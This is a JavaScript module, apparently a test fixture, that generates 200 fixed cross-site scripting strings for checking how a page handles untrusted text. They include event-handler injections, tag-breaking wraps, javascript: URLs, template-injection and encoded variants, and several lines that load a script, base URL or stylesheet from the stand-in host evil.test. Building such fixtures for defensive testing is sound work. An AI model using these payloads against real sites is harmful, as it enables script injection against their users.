// Texts that would run a script if a page took them for more than text.

const HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter"];
const ELEMENTS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe", "marquee", "object data=x"];
const WRAPS = [
  (text) => text,
  (text) => `"><${text.slice(1)}`,
  (text) => `'/>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</title>${text}`,
];
const OTHERS = [
  "<script>xss()</script>",
  "<scr<script>ipt>xss()</script>",
  "<script src=//evil.test/x.js></script>",
  "javascript:xss()",
  "[a](javascript:xss())",
  "![a](x\" onerror=\"xss())",
  "{{constructor.constructor('xss()')()}}",
  "${xss()}",
  "{@html '<img src=x onerror=xss()>'}",
  "<a href=\"javascript:xss()\">a</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
  "<svg><script>xss()</script></svg>",
  "<iframe srcdoc=\"<script>parent.xss()</script>\"></iframe>",
  "<base href=//evil.test>",
  "<meta http-equiv=refresh content=\"0;url=javascript:xss()\">",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<form action=javascript:xss()><button>go</button></form>",
  "\u2028<img src=x onerror=xss()>",
  "&lt;img src=x onerror=xss()&gt;",
  "%3Cimg%20src%3Dx%20onerror%3Dxss()%3E",
];

/** 200 of them, always the same. */
export function payloads() {
  const made = ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}=xss()>`));
  const wrapped = made.flatMap((text) => WRAPS.map((wrap) => wrap(text)));
  return [...OTHERS, ...wrapped.filter((_, at) => at % 2 === 0)].slice(0, 200);
}
